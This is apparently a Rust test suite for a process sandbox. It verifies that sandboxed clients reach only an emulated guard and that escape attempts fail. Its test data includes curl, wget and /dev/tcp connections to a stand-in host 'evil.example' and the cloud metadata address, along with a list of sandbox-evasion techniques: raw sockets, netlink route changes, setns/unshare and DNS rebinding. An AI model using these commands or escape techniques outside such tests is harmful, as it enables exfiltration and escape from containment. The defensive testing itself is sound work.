//! A run with its own network: real clients and evasion attempts, with an acceptor in the guard's place.

use std::io::{Read as _, Write as _};
use std::net::{Ipv4Addr, SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::sync::mpsc::{Receiver, channel};
use std::time::Duration;

use guarda_sandbox::process::Start;
use guarda_sandbox::{
    Ends, Listeners, Network, PROXY_PORT, SandboxError, SandboxLevel, Spec, original_destination,
};

use crate::jail::{Done, Jail, block_on, none, profiles, run_in, sandbox};
use crate::lacking::without;
use crate::listening::Listening;

/// The acceptor's answer to every name.
const NAMED: Ipv4Addr = Ipv4Addr::new(198, 18, 0, 7);

/// An arrival: the intended address of a connection and the client's first line; or a queried name, with port
/// 53.
#[derive(Debug, PartialEq, Eq)]
struct Seen(SocketAddr, String);

fn hosts(jail: &Jail, profile: SandboxLevel) -> Spec {
    Spec { network: Network::Hosts, ..jail.spec(profile) }
}

fn run(spec: &Spec, start: Start) -> (Done, Vec<Seen>) {
    block_on(async {
        let mut cell = sandbox().open(spec).await.unwrap();
        let seen = cell.take_network().map(accept);
        let done = run_in(&mut cell, start).await;
        (done, seen.iter().flat_map(Receiver::try_iter).collect())
    })
}

/// Accepts and answers on the guard's ends.
fn accept(ends: Ends) -> Receiver<Seen> {
    let (tell, seen) = channel();
    let Listeners { tcp, dns, dns_tcp, .. } = own(ends);
    drop(dns_tcp);
    tcp.set_nonblocking(false).unwrap();
    dns.set_nonblocking(false).unwrap();
    let told = tell.clone();
    std::thread::spawn(move || {
        while let Ok((connection, _)) = tcp.accept() {
            let told = told.clone();
            std::thread::spawn(move || serve(connection, &told));
        }
    });
    std::thread::spawn(move || resolve(&dns, &tell));
    seen
}

fn own(ends: Ends) -> Listeners {
    match ends {
        Ends::Own(listeners) => listeners,
        Ends::Notified(_) => panic!("this machine gives no namespaces"),
    }
}

fn serve(mut connection: TcpStream, told: &std::sync::mpsc::Sender<Seen>) {
    let meant = original_destination(&connection).unwrap();
    connection.set_read_timeout(Some(Duration::from_secs(2))).unwrap();
    let mut first = [0; 4096];
    let got = connection.read(&mut first).unwrap_or(0);
    let text = String::from_utf8_lossy(&first[..got]);
    told.send(Seen(meant, text.lines().next().unwrap_or_default().trim_end().to_owned())).unwrap();
    let _ = connection.write_all(b"HTTP/1.1 403 no\r\nContent-Length: 5\r\nConnection: close\r\n\r\nguard");
}

/// Answers queries for IPv4 addresses with [`NAMED`], and others with no records.
fn resolve(dns: &UdpSocket, told: &std::sync::mpsc::Sender<Seen>) {
    let mut packet = [0; 512];
    while let Ok((got, from)) = dns.recv_from(&mut packet) {
        let mut name = Vec::new();
        let mut at = 12;
        while packet[at] != 0 {
            let length = usize::from(packet[at]);
            name.push(String::from_utf8_lossy(&packet[at + 1..=at + length]).into_owned());
            at += length + 1;
        }
        let is_a = packet[at + 2] == 1;
        told.send(Seen(SocketAddr::from((NAMED, 53)), name.join("."))).unwrap();
        let mut answer = packet[..at + 5].to_vec();
        let _ = got;
        answer[2..12].copy_from_slice(&[0x81, 0x80, 0, 1, 0, u8::from(is_a), 0, 0, 0, 0]);
        if is_a {
            answer.extend([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 1, 0, 4]);
            answer.extend(NAMED.octets());
        }
        let _ = dns.send_to(&answer, from);
    }
}

/// The connections among what was seen.
fn connections(seen: &[Seen]) -> Vec<(String, &str)> {
    let connections = seen.iter().filter(|Seen(meant, _)| meant.port() != 53);
    connections.map(|Seen(meant, line)| (meant.to_string(), line.as_str())).collect()
}

#[test]
fn every_client_arrives_at_the_guard_and_says_or_has_said_a_name() {
    let proxy = format!("127.0.0.1:{PROXY_PORT}");
    let named = format!("{NAMED}:80");
    let clients: &[(&str, &str, &str)] = &[
        ("curl -s http://evil.example/x", &proxy, "GET http://evil.example/x HTTP/1.1"),
        ("curl -s https://evil.example/x", &proxy, "CONNECT evil.example:443 HTTP/1.1"),
        ("curl -s --noproxy '*' http://evil.example/x", &named, "GET /x HTTP/1.1"),
        (
            "env -u http_proxy -u HTTP_PROXY wget --content-on-error -t1 -qO- http://evil.example/x",
            &named,
            "GET /x HTTP/1.1",
        ),
        ("exec 3<>/dev/tcp/evil.example/80; echo hello >&3; cat <&3", &named, "hello"),
        ("exec 3<>/dev/tcp/192.0.2.9/6379; echo PING >&3; cat <&3", "192.0.2.9:6379", "PING"),
        ("exec 3<>/dev/tcp/2001:db8::9/80; echo six >&3; cat <&3", "[2001:db8::9]:80", "six"),
        ("exec 3<>/dev/tcp/169.254.169.254/80; echo meta >&3; cat <&3", "169.254.169.254:80", "meta"),
        ("exec 3<>/dev/tcp/10.0.0.1/1023; echo port >&3; cat <&3", "10.0.0.1:1023", "port"),
    ];
    for profile in profiles() {
        let jail = Jail::new();
        for (line, meant, first) in clients {
            let (done, seen) = run(&hosts(&jail, profile), jail.script(line, &[]));
            assert_eq!(done.protection.network, Network::Hosts, "{done:#?}");
            assert!(done.protection.is_whole(), "{done:#?}");
            assert!(connections(&seen).contains(&((*meant).to_owned(), first)), "{line}: {seen:?} {done:#?}");
            // curl does not show a proxy's text when a tunnel is refused.
            assert!(done.out.contains("guard") || first.starts_with("CONNECT"), "{line}: {done:#?}");
        }
        let (_, seen) = run(&hosts(&jail, profile), jail.script("getent ahosts evil.example", &[]));
        assert!(seen.iter().any(|Seen(_, name)| name == "evil.example"), "{seen:?}");
    }
}

#[test]
fn servers_of_the_run_itself_are_its_own() {
    let script = "import socket
for family, host in ((socket.AF_INET, '127.0.0.1'), (socket.AF_INET6, '::1')):
    server = socket.create_server((host, 0), family=family)
    client = socket.create_connection(server.getsockname()[:2])
    server.accept()[0].send(b'own')
    print(client.recv(9))
print(socket.gethostbyname('localhost'), socket.gethostbyname(socket.gethostname()))";
    for profile in profiles() {
        let jail = Jail::new();
        let (done, seen) = run(&hosts(&jail, profile), jail.python_script(script, &[]));
        let out = &done.succeeds().out;
        assert_eq!(out, "b'own'\nb'own'\n127.0.0.1 127.0.0.1\n");
        assert_eq!(seen, []);
    }
}

/// Programs look up their interfaces and routes before they connect or listen.
#[test]
fn a_program_sees_the_interface_of_its_cell_and_no_other() {
    let script = "import socket
print(socket.if_nameindex())
print(sorted({entry[4][0] for entry in socket.getaddrinfo('localhost', 80, flags=socket.AI_ADDRCONFIG)}))";
    for profile in profiles() {
        let jail = Jail::new();
        let (done, _) = run(&hosts(&jail, profile), jail.python_script(script, &[]));
        let out = &done.succeeds().out;
        assert!(out.starts_with("[(1, 'lo')]\n") && out.contains("127.0.0.1"), "{done:#?}");
        let (done, _) = run(&hosts(&jail, profile), jail.script("ip -o address; ip -o link", &[]));
        let out = &done.succeeds().out;
        assert!(out.contains("127.0.0.1/8") && out.lines().all(|line| line.contains(" lo")), "{done:#?}");
        let node = "node -e 'console.log(Object.keys(os.networkInterfaces()))'";
        let (done, _) = run(&hosts(&jail, profile), jail.script(node, &[]));
        assert_eq!(done.succeeds().out, "[ 'lo' ]\n");
    }
}

#[test]
fn a_loopback_port_of_this_machine_is_reached_through_the_guard_where_it_was_named() {
    for profile in profiles() {
        let jail = Jail::new();
        let server = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = server.local_addr().unwrap().port();
        server.set_nonblocking(true).unwrap();
        let line = "exec 3<>/dev/tcp/127.0.0.1/$port; echo hi >&3; cat <&3";
        let start = || jail.script(line, &[("port", &port.to_string())]);
        let (done, seen) = run(&hosts(&jail, profile), start());
        assert_eq!(seen, [], "{done:#?}");
        done.fails();
        let named = Spec { loopback: vec![port], ..hosts(&jail, profile) };
        let (_, seen) = run(&named, start());
        assert_eq!(connections(&seen), [(format!("127.0.0.1:{port}"), "hi")]);
        assert!(server.accept().is_err());
    }
}

/// Without these restrictions each attempt would work, or fails for the expected reason.
#[test]
fn nothing_leads_around_the_guard() {
    let socket = |arguments: &str| format!("import socket; socket.socket({arguments})");
    let call = |number: i64, arguments: &str| {
        format!(
            "import ctypes, os; libc = ctypes.CDLL(None, use_errno=True)\n\
             if libc.syscall({number}, {arguments}) == -1: raise OSError(ctypes.get_errno(), 'call')"
        )
    };
    // A message to rtnetlink with this header and one attribute (kind, then value); fails with the error of the kernel's answer.
    let netlink = |kind: u16, header: &str, attribute: &str| {
        format!(
            "import socket, struct\n\
             head = bytes([{header}])\n\
             more = [{attribute}]\n\
             more = struct.pack('HH', 3 + len(more), more[0]) + bytes(more[1:]) if more else b''\n\
             s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)\n\
             s.sendto(struct.pack('IHHII', 16 + len(head + more), {kind}, 0x405, 1, 0) + head + more, (0, 0))\n\
             code = -struct.unpack('i', s.recv(4096)[16:20])[0]\n\
             assert code == 0, f'error {{code}}'"
        )
    };
    let udp = |address: &str| {
        format!(
            "import socket; f = socket.AF_INET6 if ':' in '{address}' else socket.AF_INET\n\
             s = socket.socket(f, socket.SOCK_DGRAM); s.connect(('{address}', 443)); s.settimeout(9)\n\
             s.send(b'x'); s.recv(9)"
        )
    };
    let attempts: &[(&str, String, &str)] = &[
        ("QUIC", udp("192.0.2.9"), "ConnectionRefusedError"),
        ("QUIC over IPv6", udp("2001:db8::9"), "ConnectionRefusedError"),
        ("ICMP", socket("socket.AF_INET, socket.SOCK_DGRAM, 1"), "PermissionError"),
        ("ICMPv6", socket("socket.AF_INET6, socket.SOCK_DGRAM, 58"), "PermissionError"),
        ("raw", socket("socket.AF_INET, socket.SOCK_RAW, 255"), "PermissionError"),
        ("raw with a flag", socket("socket.AF_INET, socket.SOCK_RAW | socket.SOCK_CLOEXEC, 6"), "PermissionError"),
        ("packet", socket("socket.AF_PACKET, socket.SOCK_RAW, 3"), "PermissionError"),
        ("AF_VSOCK", socket("40, socket.SOCK_STREAM"), "PermissionError"),
        ("AF_UNIX", socket("socket.AF_UNIX, socket.SOCK_STREAM"), "PermissionError"),
        ("netlink of sockets", socket("socket.AF_NETLINK, socket.SOCK_RAW, 4"), "PermissionError"),
        ("another address", netlink(20, "2, 32, 0, 0, 1, 0, 0, 0", "2, 203, 0, 113, 9"), "error 1"),
        ("another route", netlink(24, "2, 0, 0, 0, 254, 4, 0, 1, 0, 0, 0, 0", ""), "error 1"),
        ("the interface by netlink", netlink(16, "0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0", ""), "error 1"),
        ("nf_tables", socket("socket.AF_NETLINK, socket.SOCK_RAW, 12"), "PermissionError"),
        ("SCTP", socket("socket.AF_INET, socket.SOCK_STREAM, 132"), "PermissionError"),
        ("SCTP by packets", socket("socket.AF_INET, socket.SOCK_SEQPACKET, 0"), "PermissionError"),
        ("MPTCP", socket("socket.AF_INET, socket.SOCK_STREAM, 262"), "PermissionError"),
        ("UDPLITE", socket("socket.AF_INET, socket.SOCK_DGRAM, 136"), "PermissionError"),
        ("DCCP", socket("socket.AF_INET, 6, 33"), "PermissionError"),
        ("io_uring", call(libc::SYS_io_uring_setup, "4, None"), "PermissionError"),
        ("setns", call(libc::SYS_setns, "os.open('/proc/self/ns/net', 0), 0"), "PermissionError"),
        ("the guard's namespace", "open('/proc/%d/ns/net' % __import__('os').getppid())".to_owned(), "PermissionError"),
        ("unshare", call(libc::SYS_unshare, "0x40000000"), "PermissionError"),
        ("unshare with users", call(libc::SYS_unshare, "0x50000000"), "PermissionError"),
        ("pidfd_getfd", call(libc::SYS_pidfd_getfd, "3, 3, 0"), "PermissionError"),
        ("binding DNS", "import socket; socket.create_server(('127.0.0.1', 53))".to_owned(), "Error"),
        ("binding the guard's port", format!("import socket; socket.create_server(('127.0.0.1', {PROXY_PORT}))"), "Error"),
        ("binding DNS by datagram", "import socket; s = socket.socket(type=socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1); s.bind(('127.0.0.1', 53))".to_owned(), "Error"),
        ("the resolver's file", "open('/etc/resolv.conf', 'w')".to_owned(), "Error"),
        ("a device", "import socket; s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 1)".to_owned(), "PermissionError"),
        ("the loopback interface", "import socket, fcntl, struct; fcntl.ioctl(socket.socket(), 0x8914, struct.pack('16sh14x', b'lo', 0))".to_owned(), "PermissionError"),
        ("the redirect", "open('/proc/sys/net/ipv4/ip_unprivileged_port_start', 'w').write('0')".to_owned(), "PermissionError"),
    ];
    for profile in profiles() {
        let jail = Jail::new();
        for (what, attempt, error) in attempts {
            let (done, seen) = run(&hosts(&jail, profile), jail.python_script(attempt, &[]));
            assert!(done.fails().err.contains(error), "{what}: {done:#?}");
            assert_eq!(seen, [], "{what}");
        }
    }
}

#[test]
fn nothing_of_this_machine_is_reached() {
    for profile in profiles() {
        let jail = Jail::new();
        let listening = Listening::new(&format!("networked-{profile:?}"));
        let script = "import os, socket
def attempt(work):
    try: work()
    except OSError as error: print(error.errno)
def datagram():
    s = socket.socket(type=socket.SOCK_DGRAM); s.sendto(b'x', (host, int(os.environ['datagrams'])))
def named():
    s = socket.socket(socket.AF_UNIX); s.connect('\\0' + os.environ['name'])
hosts = ['127.0.0.1', '0.0.0.0'] + os.environ['own'].split()
for host in hosts:
    attempt(lambda: socket.create_connection((host, int(os.environ['port'])), 2).send(b'x'))
    attempt(datagram)
attempt(named)
for fd in os.listdir('/proc/self/fd'):
    if int(fd) > 3: print('inherited', os.readlink('/proc/self/fd/' + fd))";
        let own = own_addresses().join(" ");
        let variables = [&listening.variables()[..], &[("own", own.as_str())]].concat();
        let outside = TcpStream::connect(listening.tcp.local_addr().unwrap()).unwrap();
        assert_eq!(listening.reached(), 1);
        rustix::io::fcntl_setfd(&outside, rustix::io::FdFlags::empty()).unwrap();
        let (done, _) = run(&hosts(&jail, profile), jail.python_script(script, &variables));
        assert!(!done.succeeds().out.contains("inherited"), "{done:#?}");
        assert_eq!(listening.reached(), 0);
        // Without a sandbox each of them arrives.
        let done = jail.python(&none(&jail.spec(profile)), script, &variables);
        done.succeeds();
        assert_eq!(listening.reached(), 3);
    }
}

/// This machine's own addresses beside loopback, as the kernel lists them.
fn own_addresses() -> Vec<String> {
    let text = std::fs::read_to_string("/proc/net/fib_trie").unwrap();
    let lines: Vec<&str> = text.lines().map(str::trim).collect();
    let local = lines.windows(2).filter(|pair| pair[1] == "/32 host LOCAL");
    let mut found: Vec<String> =
        local.filter_map(|pair| pair[0].strip_prefix("|-- ")).map(str::to_owned).collect();
    found.retain(|address| !address.starts_with("127."));
    found.dedup();
    found
}

#[test]
fn the_network_ends_with_the_guards_ends_of_it() {
    let jail = Jail::new();
    // A program that another test is just starting holds a copy of the listener for a moment.
    let again = "for n in {1..100}; do exec 4<>/dev/tcp/192.0.2.9/80 || exit; sleep 0.05; done";
    let start = jail.script(&format!("exec 3<>/dev/tcp/192.0.2.9/80; cat <&3; {again}"), &[]);
    let done = block_on(async {
        let mut cell = sandbox().open(&hosts(&jail, SandboxLevel::Confined)).await.unwrap();
        let ends = own(cell.take_network().unwrap());
        assert!(cell.take_network().is_none());
        ends.tcp.set_nonblocking(false).unwrap();
        std::thread::spawn(move || {
            let listener = ends.tcp;
            let taken = listener.accept().unwrap();
            // The program goes on when its connection ends: the listener must be gone by then.
            drop(listener);
            drop(taken);
        });
        run_in(&mut cell, start).await
    });
    assert!(done.fails().err.contains("refused"), "{done:#?}");
}

#[test]
fn without_namespaces_and_notification_there_is_no_network_and_it_is_said() {
    let jail = Jail::new();
    let attempt = "exec 3<>/dev/tcp/192.0.2.9/80 && exit 4; exit 5";
    for missing in [libc::SYS_unshare, libc::SYS_mount] {
        let calls = [missing, libc::SYS_pidfd_getfd];
        let done = without(&calls, hosts(&jail, SandboxLevel::Confined), &jail, attempt).unwrap();
        assert_eq!(done.protection.network, Network::None, "{done:#?}");
        assert!(
            done.protection
                .notes
                .iter()
                .any(|note| note.starts_with("no network: ") && note.contains("cannot be taken")),
            "{done:#?}"
        );
        assert_eq!(done.status, guarda_sandbox::process::Status::Exited(5), "{done:#?}");
    }
}

#[test]
fn nothing_that_is_not_confined_is_given_such_a_network() {
    let jail = Jail::new();
    let spec = hosts(&jail, SandboxLevel::None);
    let refused = block_on(async { sandbox().open(&spec).await.map(drop) });
    assert!(matches!(refused, Err(SandboxError::Supervisor(_))), "{refused:?}");
}
